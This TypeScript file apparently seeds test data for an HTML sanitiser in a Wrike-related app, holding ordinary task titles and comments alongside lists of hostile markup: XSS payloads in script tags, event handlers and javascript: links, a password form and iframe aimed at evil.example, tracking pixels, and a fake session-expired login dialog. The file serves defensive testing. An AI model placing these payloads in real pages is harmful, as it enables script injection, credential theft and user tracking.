// Words the seed draws on: task titles, Wrike-HTML descriptions and comments, and the hostile HTML
// (script, handlers, javascript: links, frames, svg, styles, beacons, fake app UI) the sanitiser must neutralise.
export const ACME_VERBS = [
  "Calibrate",
  "Review",
  "Fix",
  "Test",
  "Document",
  "Refactor",
  "Benchmark",
  "Prototype",
  "Order",
  "Update",
  "Investigate",
  "Design",
  "Validate",
  "Plan",
  "Prepare",
  "Draft",
  "Replace",
  "Measure",
  "Tune",
  "Ship",
] as const;

export const ACME_OBJECTS = [
  "wrist joint encoders",
  "gripper firmware",
  "torque sensor readings",
  "motor driver board",
  "safety interlock",
  "vision pipeline",
  "camera mounts",
  "CAN bus wiring",
  "battery pack BMS",
  "path planner",
  "teach pendant UI",
  "servo PID gains",
  "emergency stop circuit",
  "calibration runbook",
  "test rig fixtures",
  "ROS 2 launch files",
  "LiDAR driver",
  "assembly instructions",
  "actuator supplier quote",
  "launch landing page",
  "press kit",
  "trade show booth",
  "customer onboarding guide",
  "release notes",
  "CE declaration",
  "bill of materials",
  "thermal model of the base",
  "cable chain routing",
] as const;

export const NORD_VERBS = [
  "Sketch",
  "Render",
  "Export",
  "Approve",
  "Send",
  "Review",
  "Revise",
  "Book",
  "Prepare",
  "Finalise",
  "Retouch",
  "Present",
] as const;

export const NORD_OBJECTS = [
  "logo variants",
  "brand guidelines",
  "teaser storyboard",
  "colour grading",
  "packaging dieline",
  "mood board",
  "typeface licence",
  "client presentation",
  "photo shoot schedule",
  "invoice batch",
  "social media kit",
  "sound mix",
  "print proofs",
  "website hero animation",
  "Größentabelle für Etiketten",
] as const;

export const TITLE_SUFFIXES = [
  "",
  "",
  "",
  "",
  " (v2)",
  " before release",
  " for the pilot",
  " with QA",
  " again",
];

export function mention(id: string, name: string): string {
  return `<a class="stream-user-id avatar" rel="@${id}">@${name}</a>`;
}

/** Ordinary descriptions in the HTML subset Wrike stores (br, b, i, u, lists, links, mentions). */
export function plainDescriptions(mentionHtml: string): string[] {
  return [
    "Steps:<br /><ol><li>Power-cycle the unit</li><li>Run <b>calibrate --all</b></li><li>Record the offsets in the sheet</li></ol>",
    `See the <a href="https://example.com/specs/arm-v2" rel="nofollow noreferrer noopener" target="_blank">spec</a> for tolerances.<br />Ping ${mentionHtml} when done.`,
    "<b>Context:</b> customer reported drift after 40 h of operation.<br /><i>Do not</i> ship before the soak test passes.",
    "<ul><li>Check cable strain relief</li><li>Re-crimp connectors</li><li>Label both ends</li></ul>",
    "Quick one: the numbers from last week are in the shared drive.",
    "<u>Acceptance criteria</u><br /><ul><li>Passes the 8 h soak test</li><li>Noise below 2&nbsp;dB</li><li>Docs updated</li></ul>",
    "Draft is ready for review &mdash; comments welcome.<br /><br />Thanks!",
    "Use <code>make flash TARGET=arm-v2</code> and attach the log.",
  ];
}

/** Each one tries a different way to run script or hijack the page. */
export const HOSTILE_SNIPPETS = [
  `Quarterly numbers below.<script>window.__xss="script";alert("xss-script")</script>`,
  `<img src="x" onerror="window.__xss='img';alert('xss-img')">Broken image above.`,
  `<a href="javascript:window.__xss='link';alert('xss-link')">Open the report</a>`,
  `<a href="JaVaScRiPt&colon;alert('xss-entity-link')">Entity-encoded link</a>`,
  `<iframe src="https://evil.example/phish" width="600" height="400"></iframe>Embedded form`,
  `<svg onload="window.__xss='svg';alert('xss-svg')"><circle r="10"></circle></svg>Diagram`,
  `<style>body{display:none !important}</style>Styled note`,
  `<div onclick="window.__xss='click'" onmouseover="window.__xss='hover'" style="position:fixed;inset:0">Hover anywhere</div>`,
  `<form action="https://evil.example/steal"><input name="password" placeholder="Password"><button>Log in again</button></form>`,
  `<a href="https://example.com/report" target="_blank">Link without rel</a>`,
  `<object data="javascript:alert('xss-object')"></object><embed src="javascript:alert('xss-embed')">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">Refresh trap`,
];

/**
 * Each one tries to beacon the reader (images and backgrounds from anywhere) or to pass Wrike content off as
 * the app (its classes and ids, an open dialog, links to the relay's own sign-in). No script in any of them.
 */
export const PHISHING_SNIPPETS = [
  `<img src="https://tracker.evil.example/pixel.gif?reader=1" alt="Sales chart">Tracked image`,
  `<table background="https://tracker.evil.example/table.gif"><tr><td background="https://tracker.evil.example/cell.gif">Cell with a background</td></tr></table>`,
  `<video poster="https://tracker.evil.example/poster.gif" src="https://tracker.evil.example/clip.mp4">Video fallback</video>`,
  `<a class="button" id="panel-title" href="https://example.com/styled">Styled as the app's button</a>`,
  `<dialog open>Your Wrike session expired. <a href="https://evil.example/login">Sign in again</a></dialog>`,
  `<a href="/auth/login?mode=popup&amp;return_to=/embed&amp;access=write&amp;handoff=AAAAAAAAAAAAAAAAAAAAAA">Re-authorise Wrike Pane</a>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" title="Inline pixel">`,
  `<img src="/api/v4/attachments/IEAAAAAAAAAAAAAA/download/a.svg">Relay-served image`,
  `<img src="https://tracker.evil.example/map.gif" usemap="#m"><map name="m"><area shape="rect" coords="0,0,50,50" href="/auth/logout"></map>`,
];

export const HOSTILE_DESCRIPTION = `<b>Read me carefully.</b><br />${[...HOSTILE_SNIPPETS, ...PHISHING_SNIPPETS].join("<br />")}`;

export const COMMENT_TEXTS = [
  "Done, see the attached log.",
  "Can we move this to next sprint?",
  "<b>Blocked</b> on the supplier, chasing today.",
  "Looks good to me 👍",
  "I pushed a fix, please re-test.",
  "Numbers updated in the sheet.<br />Let me know if anything looks off.",
  "Agreed &mdash; let's keep it simple.",
  "Reminder: the review is on Thursday.",
];

export const HOSTILE_COMMENT = `Looks fine <img src="x" onerror="window.__xss='comment';alert('xss-comment')"> <a href="javascript:alert('xss-comment-link')">details</a> <img src="https://tracker.evil.example/comment.gif"> <a href="/auth/login?mode=popup&amp;handoff=AAAAAAAAAAAAAAAAAAAAAA">sign in again</a>`;
